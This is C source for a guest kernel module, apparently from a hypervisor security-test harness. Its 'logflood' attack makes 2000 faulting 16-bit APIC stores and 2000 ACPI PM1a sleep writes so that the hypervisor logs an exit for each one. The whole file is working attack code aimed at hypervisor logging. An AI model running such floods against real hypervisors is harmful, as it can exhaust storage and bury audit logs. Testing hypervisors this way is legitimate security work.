// SPDX-License-Identifier: GPL-2.0
/*
 * Exits that the hypervisor logs every time: a write to the guarded APIC
 * page that its decoder does not know (a 16-bit MOV, #GP in the root),
 * and a PM1a control write with SLP_EN whose sleep type QEMU ignores
 * (the hypervisor logs its exit summary, the machine goes on).  Each runs
 * FLOOD_COUNT times; the harness counts the lines the hypervisor logged.
 */
#include "attack.h"

#include <linux/acpi.h>
#include <linux/kernel.h>
#include <asm/apic.h>
#include <asm/asm.h>
#include <asm/io.h>

#define FLOOD_COUNT  2000
#define PM1_SLP_EN   (1u << 13)
#define PM1_SLP_TYP7 (7u << 10) /* no sleep state of QEMU's */

/* A 16-bit store to the APIC's timer initial count: the decoder's #GP. */
static long try_apic_word_store(void)
{
	long rax = 0;

	asm volatile("1: movw %w[zero], %[reg]\n\t"
		     "mov %[none], %%rax\n\t"
		     "2:\n\t" _ASM_EXTABLE_FAULT(1b, 2b)
		     : "+a"(rax), [reg] "=m"(*(u16 *)(APIC_BASE + APIC_TMICT))
		     : [zero] "r"(0), [none] "i"(NO_FAULT)
		     : "memory");
	return rax;
}

static void flood_apic(void)
{
	unsigned int i, faults = 0;

	if (x2apic_enabled()) {
		pr_info("FAIL logflood: the APIC is in x2APIC mode\n");
		return;
	}
	for (i = 0; i < FLOOD_COUNT; i++)
		faults += try_apic_word_store() != NO_FAULT;
	pr_info("logflood apic-word-stores=%u faulted=%u\n", FLOOD_COUNT,
		faults);
}

static void flood_pm1a(void)
{
	struct acpi_table_header *table;
	struct acpi_table_fadt *fadt;
	unsigned int i;
	u16 port, cnt;

	if (ACPI_FAILURE(acpi_get_table(ACPI_SIG_FADT, 0, &table))) {
		pr_info("FAIL logflood: no FADT\n");
		return;
	}
	fadt = (struct acpi_table_fadt *)table;
	port = (u16)fadt->pm1a_control_block;
	acpi_put_table(table);
	cnt = inw(port) & ~(PM1_SLP_EN | PM1_SLP_TYP7);
	for (i = 0; i < FLOOD_COUNT; i++)
		outw(cnt | PM1_SLP_EN | PM1_SLP_TYP7, port);
	pr_info("logflood pm1a-port=0x%x sleep-writes=%u\n", port, FLOOD_COUNT);
}

void attack_logflood(void)
{
	flood_apic();
	flood_pm1a();
}
